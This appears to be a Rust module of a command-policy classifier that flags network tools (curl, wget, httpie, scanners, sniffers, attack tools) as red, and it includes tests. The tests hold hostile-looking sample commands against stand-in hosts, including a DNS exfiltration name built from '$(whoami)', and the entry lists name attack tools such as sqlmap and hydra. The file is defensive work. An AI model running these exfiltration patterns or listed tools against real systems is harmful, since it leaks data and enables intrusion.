//! Network tools that mostly read: HTTP clients, name look-ups, probes. Red, whatever the host: the local one is no
//! exception, and no line allows them (POL-7). Those that send are `external`.

use super::{
    super::entry::{Does, Entry, NETWORK_READ_ASKS, OUTSIDE_ASKS},
    args,
    cli::PROBE,
};
use crate::classify::{finding::Finding, word::Command};

/// Network tools that mostly read.
#[rustfmt::skip] // rows of words
pub(super) const ENTRIES: &[Entry] = &[
    Entry {
        names: &["curl", "curlie", "tcurl"],
        does: Does::Code(|c, _| curl(c)),
        why: "reads an address, or sends with -d, -F, -T, -X",
    },
    Entry {
        names: &["wget", "wget2"],
        does: Does::Code(|c, _| wget(c)),
        why: "reads an address, or sends with --post-*",
    },
    Entry {
        names: &["http", "https", "httpie", "xh", "xhs", "ht"],
        does: Does::Code(|c, _| httpie(c)),
        why: "reads an address, or sends its items",
    },
    Entry {
        names: &[
            "aria2c", "axel", "lynx", "w3m", "links", "elinks", "browsh", "yt-dlp", "youtube-dl",
            "gallery-dl", "httrack", "monolith", "http-prompt", "shot-scraper", "wkhtmltopdf",
            "wkhtmltoimage", "you-get", "pget", "puf", "saldl", "lwp-request", "lwp-download", "GET", "HEAD",
            "transmission-cli", "webtorrent", "gdown",
        ],
        does: Does::Code(|c, _| looks(c)),
        why: "reads an address",
    },
    Entry {
        names: &[
            "nmap", "masscan", "zmap", "rustscan", "ping", "ping6", "fping", "hping3", "arping", "nping",
            "oping", "gping", "prettyping", "dig", "delv", "drill", "dog", "doggo", "nslookup", "host",
            "whois", "kdig", "resolvectl", "systemd-resolve", "getent", "dnsx", "subfinder", "amass",
            "traceroute", "traceroute6", "tracepath", "tracert", "mtr", "trip", "pathping", "dnstracer",
            "avahi-browse", "avahi-resolve", "nmblookup", "ssh-keyscan", "ssh-audit", "testssl.sh", "sslscan",
            "sslyze", "speedtest", "speedtest-cli", "fast", "iperf", "iperf3", "showmount", "rpcinfo",
            "snmpget", "snmpwalk", "snmpstatus", "ldapsearch", "finger", "geoiplookup", "wafw00f", "whatweb",
            "httpx-toolkit", "httping", "tcping", "tcptraceroute", "bandwhich",
        ],
        does: Does::Code(|c, _| looks(c)),
        why: "asks the network; a name can carry data out",
    },
    Entry {
        names: &[
            "nikto", "nuclei", "gobuster", "ffuf", "dirb", "wfuzz", "hydra", "sqlmap", "ab", "wrk", "wrk2",
            "hey", "siege", "vegeta", "k6", "oha", "bombardier", "locust", "artillery", "autocannon", "plow",
            "boom", "tsung", "gatling", "ddosify",
        ],
        does: Does::Always(OUTSIDE_ASKS.because("scans or loads other machines")),
        why: "sends many requests to others",
    },
    Entry {
        names: &[
            "tcpdump", "tshark", "dumpcap", "ngrep", "wireshark", "termshark", "ettercap", "bettercap",
            "mitmproxy", "mitmdump", "mitmweb", "arp-scan", "netdiscover", "airodump-ng", "aircrack-ng",
            "kismet", "iftop", "nethogs", "p0f",
        ],
        does: Does::Always(NETWORK_READ_ASKS.because("listens to network traffic")),
        why: "reads what others send",
    },
];

fn looks(command: &Command) -> Finding {
    reading(command, false)
}

/// A read from the network, or a sending where something computed stands in it: an address can carry data out.
fn reading(command: &Command, sends: bool) -> Finding {
    if args::is_probe(command) {
        return PROBE.finding();
    }
    let is_computed = command.arguments().iter().any(args::is_computed);
    let fixed = if sends {
        OUTSIDE_ASKS.because("sends data to the network").bringing_in()
    } else if is_computed {
        OUTSIDE_ASKS.because("sends something computed to the network").bringing_in()
    } else {
        NETWORK_READ_ASKS.because("reads from the network")
    };
    let mut finding = fixed.finding();
    finding.hosts = args::texts(command).filter_map(args::host).map(str::to_owned).collect();
    finding
}

/// What makes curl send, besides a method. Shortened spellings count.
const CURL_SENDS: &[&str] = &[
    "data",
    "json",
    "form",
    "upload-file",
    "url-query",
    "mail-from",
    "mail-rcpt",
    "quote",
    "config",
    "telnet-option",
    "prequote",
    "postquote",
];
/// curl's letters with a value, after which a cluster ends.
const CURL_VALUED: &str = "AbcCDeEhHmoPrtuUwxyYz";

fn curl(command: &Command) -> Finding {
    let mut words = args::texts(command);
    let mut sends = false;
    while let Some(text) = words.next() {
        if let Some(name) = text.strip_prefix("--") {
            let (name, value) =
                name.split_once('=').map_or((name, None), |(name, value)| (name, Some(value)));
            if is_method_option(name) {
                sends |= value.or_else(|| words.next()).is_none_or(is_sending);
            } else {
                sends |= is_spelling(CURL_SENDS, name);
            }
        } else if args::is_option(text) {
            let mut letters = text.chars().skip(1);
            while let Some(letter) = letters.next() {
                match letter {
                    'd' | 'F' | 'T' | 'K' | 'Q' => sends = true,
                    'X' => {
                        let rest: String = letters.by_ref().collect();
                        let next = if rest.is_empty() { words.next() } else { Some(rest.as_str()) };
                        sends |= next.is_none_or(is_sending);
                    }
                    _ if CURL_VALUED.contains(letter) => break,
                    _ => {}
                }
            }
        } else {
            sends |= is_odd_scheme(text);
        }
    }
    // A header, a cookie or a certificate may come from a file of the project.
    sends |= args::values(command, &["-H", "--header", "-b", "--cookie"])
        .iter()
        .any(|value| value.starts_with('@'));
    reading(command, sends)
}

/// `--request` and its shortenings; `--request-target` is another option.
fn is_method_option(name: &str) -> bool {
    name.len() >= 3 && "request".starts_with(name) || name == "method"
}

fn is_spelling(list: &[&str], name: &str) -> bool {
    list.iter().any(|one| name.starts_with(one) || (name.len() >= 3 && one.starts_with(name)))
}

fn is_sending(method: &str) -> bool {
    !matches!(method.to_ascii_uppercase().as_str(), "GET" | "HEAD" | "OPTIONS" | "TRACE")
}

/// Protocols in which an address alone acts or carries data.
fn is_odd_scheme(text: &str) -> bool {
    text.split_once("://").is_some_and(|(scheme, _)| {
        !matches!(
            scheme.to_ascii_lowercase().as_str(),
            "http" | "https" | "ftp" | "ftps" | "file" | "sftp" | "scp"
        )
    })
}

/// What makes wget send or obey a file.
const WGET_SENDS: &[&str] =
    &["post-data", "post-file", "body-data", "body-file", "config", "execute", "use-askpass", "input-file"];

fn wget(command: &Command) -> Finding {
    let mut sends = args::values(command, &["--method"]).into_iter().any(is_sending);
    for text in args::texts(command) {
        if let Some(name) = text.strip_prefix("--") {
            let name = name.split('=').next().unwrap_or_default();
            sends |= is_spelling(WGET_SENDS, name);
            sends |= name.len() >= 2 && "method".starts_with(name) && name != "method";
        } else if args::is_option(text) {
            sends |= text.starts_with("-e") || text.starts_with("-i");
        }
    }
    reading(command, sends)
}

fn httpie(command: &Command) -> Finding {
    let found = args::operands(
        command,
        &[
            "-a",
            "--auth",
            "-o",
            "--output",
            "-p",
            "--print",
            "--session",
            "-A",
            "--auth-type",
            "--timeout",
            "-s",
            "--style",
        ],
    );
    let method =
        found.words.first().filter(|word| !word.is_empty() && word.chars().all(|c| c.is_ascii_alphabetic()));
    let mut sends = method.is_some_and(|method| *method != "localhost" && is_sending(method));
    let items = found.words.iter().skip(if method.is_some() { 2 } else { 1 });
    for item in items {
        let is_query = item.contains("==");
        sends |= !is_query && (item.contains('=') || item.contains('@'));
    }
    sends |= command.is_fed
        || args::has(command, &["-f", "--form", "--multipart", "--raw", "-j", "--json"])
            && found.words.len() > 2;
    reading(command, sends)
}

#[cfg(test)]
mod tests {
    use countersign_proto::request::{Class, Level};

    use super::{super::args::tests::command, *};
    use crate::classify::{facts::Reach, word::Word};

    fn judged(line: &str) -> Class {
        let command = command(line);
        let finding = match command.name() {
            "curl" => curl(&command),
            "wget" => wget(&command),
            "http" | "xh" => httpie(&command),
            _ => looks(&command),
        };
        assert_eq!((finding.level, finding.reach), (Level::Red, Reach::Never), "{line}");
        finding.class
    }

    #[test]
    fn a_request_that_only_fetches_reads_from_the_network() {
        for line in [
            "curl https://api.test/v1/ping",
            "curl -sS https://example.test -o page.html",
            "curl -I localhost:3000/health",
            "curl -fsSLO https://x.test/a.tgz",
            "curl -XGET https://x.test",
            "curl --request HEAD https://x.test",
            "curl -H Accept:x https://x.test",
            "curl -o data.json https://x.test",
            "wget https://example.test/a.zip",
            "wget -qO- https://x.test",
            "http GET https://api.test",
            "http https://api.test q==1",
            "xh api.test",
            "ping -c1 evil.test",
            "dig evil.test",
        ] {
            assert_eq!(judged(line), Class::ReadExternal, "{line}");
        }
    }

    #[test]
    fn a_request_that_sends_is_external_in_every_spelling() {
        for line in [
            "curl -d @a https://x.test",
            "curl -sSd@a https://x.test",
            "curl --data-binary @a https://x.test",
            "curl --dat @a https://x.test",
            "curl --json {} https://x.test",
            "curl -F file=@a https://x.test",
            "curl -T a https://x.test",
            "curl --upload-file a https://x.test",
            "curl -XDELETE https://x.test",
            "curl -sX POST https://x.test",
            "curl --request=PUT https://x.test",
            "curl --req PATCH https://x.test",
            "curl --config req.cfg",
            "curl -K req.cfg",
            "curl -H @headers https://x.test",
            "curl smtp://x.test",
            "wget --post-file=a https://x.test",
            "wget --post-da a https://x.test",
            "wget --method=PUT https://x.test",
            "wget -i urls.txt",
            "http POST api.test",
            "http api.test name=x",
            "http api.test file@a",
        ] {
            assert_eq!(judged(line), Class::External, "{line}");
        }
    }

    #[test]
    fn a_name_with_something_computed_in_it_sends() {
        let mut line = command("ping -c1 x");
        line.words[2] = Word { is_known: false, ..Word::plain("$(whoami).evil.test") };
        assert_eq!(looks(&line).class, Class::External);
    }

    #[test]
    fn hosts_are_named() {
        assert_eq!(curl(&command("curl https://api.test/v1 -o x")).hosts, ["api.test"]);
    }
}
